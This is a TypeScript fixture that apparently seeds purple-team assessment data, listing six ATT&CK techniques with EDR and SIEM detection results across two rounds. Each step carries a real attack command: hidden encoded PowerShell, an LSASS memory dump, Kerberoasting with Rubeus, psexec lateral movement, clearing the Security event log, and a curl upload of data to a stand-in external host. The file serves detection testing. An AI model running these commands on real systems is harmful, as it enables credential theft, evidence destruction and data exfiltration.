import type { StepBody, ToolFacts } from "#features/posture/assessments/contracts/attack-steps.contract.ts";

const at = (now: Date, daysAgo: number, minutes: number) =>
  new Date(now.getTime() - daysAgo * 86_400_000 + minutes * 60_000).toISOString();

const tools = (
  edr: readonly [ToolFacts["logged"], ToolFacts["alerted"], ToolFacts["blocked"]],
  siem: readonly [ToolFacts["logged"], ToolFacts["alerted"]],
): ToolFacts[] => [
  { tool: "EDR", logged: edr[0], alerted: edr[1], blocked: edr[2], detected_at: null },
  { tool: "SIEM", logged: siem[0], alerted: siem[1], blocked: "unknown", detected_at: null },
];

/** Techniques of a round, with the result of each tool in the first and in the second round. */
const exercise = [
  [
    "Macro que inicia PowerShell",
    "T1059.001",
    "powershell -nop -w hidden -enc SQBFAFgA",
    ["yes", "no", "no"],
    ["yes", "no"],
    ["yes", "yes", "yes"],
    ["yes", "yes"],
  ],
  [
    "Volcado de memoria de LSASS",
    "T1003.001",
    "rundll32 comsvcs.dll MiniDump 624 lsass.dmp full",
    ["yes", "yes", "yes"],
    ["no", "no"],
    ["yes", "yes", "yes"],
    ["yes", "yes"],
  ],
  [
    "Kerberoasting",
    "T1558.003",
    "Rubeus.exe kerberoast /outfile:tickets.txt",
    ["no", "no", "no"],
    ["no", "no"],
    ["no", "no", "no"],
    ["yes", "yes"],
  ],
  [
    "Movimiento lateral por SMB",
    "T1021.002",
    "psexec.py administrador@servidor cmd.exe",
    ["yes", "no", "no"],
    ["yes", "no"],
    ["yes", "no", "no"],
    ["yes", "yes"],
  ],
  [
    "Borrado del registro de eventos",
    "T1070.001",
    "wevtutil cl Security",
    ["no", "no", "yes"],
    ["no", "no"],
    ["yes", "no", "yes"],
    ["no", "no"],
  ],
  [
    "Exfiltración por HTTPS",
    "T1041",
    "curl -F file=@datos.zip https://203.0.113.40/subir",
    ["unknown", "unknown", "unknown"],
    ["no", "no"],
    ["unknown", "unknown", "unknown"],
    ["yes", "no"],
  ],
] as const;

/** The steps of one round of the exercise against a target. */
export const roundOf = (
  now: Date,
  round: string,
  daysAgo: number,
  target: string,
  isSecond: boolean,
): StepBody[] =>
  exercise.map(([name, technique, command, edrFirst, siemFirst, edrSecond, siemSecond], place) => ({
    round,
    name,
    technique_id: technique,
    target,
    source_address: "203.0.113.40",
    at: at(now, daysAgo, place * 20),
    ended_at: at(now, daysAgo, place * 20 + 5),
    expected: "Alerta del EDR o del SIEM en menos de 15 minutos",
    command,
    note: "",
    tools: isSecond ? tools(edrSecond, siemSecond) : tools(edrFirst, siemFirst),
  }));
